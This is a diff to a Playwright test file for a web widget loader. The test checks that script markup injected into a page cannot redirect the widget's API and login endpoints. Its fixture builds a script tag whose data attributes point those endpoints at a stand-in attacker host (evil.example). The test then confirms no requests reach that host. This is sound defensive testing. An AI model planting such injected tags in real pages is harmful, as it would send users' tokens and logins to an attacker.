@@ -61,36 +61,51 @@ test('the japan-food home with its guide and the sneakers review tab cause no CS
   await expect.poll(violations).toEqual([expect.stringContaining('require-trusted-types-for')]);
 });
 
-test("markup injected into the page, a tag with the loader's name and an API of its own, configures nothing: the person's token goes nowhere else", async ({
-  page,
-  scenarios,
-}) => {
-  // What a page that prints a person's text unescaped would carry: the CSP refuses the tag to run,
-  // but it stays in the document for anyone who reads the page's scripts.
-  const evil = 'https://evil.example';
-  const injected = `<script type="module" src="/dist/selection-widgets.js?v=2" data-api-base="${evil}/api" data-legacy-api-base="${evil}/api_base" data-login-url="${evil}/login"></script>`;
-  await page.route(/\/csp\/selection\//, async (route) => {
-    const response = await route.fetch();
-    const page = await response.text();
-    // The page's own loader tag bare, as a host that configures by script has it (its settings here
-    // the defaults: this host's /api, /api_base, /login).
-    const own = /<script type="module" src="\/dist\/selection-widgets\.js"[^>]*>/.exec(page)?.[0] ?? '';
-    const bare = own.replace(/\s+data-[a-z-]+="[^"]*"/g, '');
-    expect(bare).toMatch(/nonce="[^"]+"/);
-    expect(bare).not.toContain('data-');
-    const body = page.replace(own, bare).replace('<selection-home', `${injected}<selection-home`);
-    expect(body).toContain(injected);
-    await route.fulfill({ response, body });
+for (const [where, address] of [
+  ['after the loader, at another address of its file', '/dist/selection-widgets.js?v=2'],
+  ["before the loader, at the loader's own address", '/dist/selection-widgets.js'],
+] as const) {
+  test(`markup injected into the page ${where}, a tag naming an API of its own, configures nothing: the person's token goes nowhere else`, async ({
+    page,
+    scenarios,
+  }) => {
+    // What a page that prints a person's text unescaped would carry: the CSP refuses the tag to run,
+    // but it stays in the document for anyone who reads the page's scripts.
+    const evil = 'https://evil.example';
+    const injected = `<script type="module" src="${address}" data-api-base="${evil}/api" data-legacy-api-base="${evil}/api_base" data-login-url="${evil}/login"></script>`;
+    await page.route(/\/csp\/selection\//, async (route) => {
+      const response = await route.fetch();
+      const page = await response.text();
+      // The page's own loader tag bare, as a host that configures by script has it (its settings here
+      // the defaults: this host's /api, /api_base, /login).
+      const own = /<script type="module" src="\/dist\/selection-widgets\.js"[^>]*>/.exec(page)?.[0] ?? '';
+      const bare = own.replace(/\s+data-[a-z-]+="[^"]*"/g, '');
+      expect(bare).toMatch(/nonce="[^"]+"/);
+      expect(bare).not.toContain('data-');
+      const withBare = page.replace(own, bare);
+      const body = address.includes('?')
+        ? withBare.replace('<selection-home', `${injected}<selection-home`)
+        : withBare.replace(bare, `${injected}${bare}`);
+      expect(body).toContain(injected);
+      await route.fulfill({ response, body });
+    });
+    const toEvil: string[] = [];
+    await page.route(`${evil}/**`, (route) => {
+      toEvil.push(`${route.request().method()} ${route.request().url()}`);
+      return route.abort();
+    });
+    const warnings: string[] = [];
+    page.on('console', (message) => void (message.type() === 'warning' && warnings.push(message.text())));
+    await page.goto(`/csp/selection/${scenarios['japan-food']}`);
+    await expect(page.locator('selection-home [part~="product-grid"] li').first()).toBeVisible();
+    expect(toEvil).toEqual([]);
+    // Two tags of its own address that disagree: neither is read, and the console says so.
+    expect(
+      warnings.some((text) => text.includes('SW015')),
+      warnings.join('\n'),
+    ).toBe(!address.includes('?'));
   });
-  const toEvil: string[] = [];
-  await page.route(`${evil}/**`, (route) => {
-    toEvil.push(`${route.request().method()} ${route.request().url()}`);
-    return route.abort();
-  });
-  await page.goto(`/csp/selection/${scenarios['japan-food']}`);
-  await expect(page.locator('selection-home [part~="product-grid"] li').first()).toBeVisible();
-  expect(toEvil).toEqual([]);
-});
+}
 
 test('an element named SelectionWidgets in the markup (window.SelectionWidgets by its name) does not keep the widgets from starting', async ({
   page,
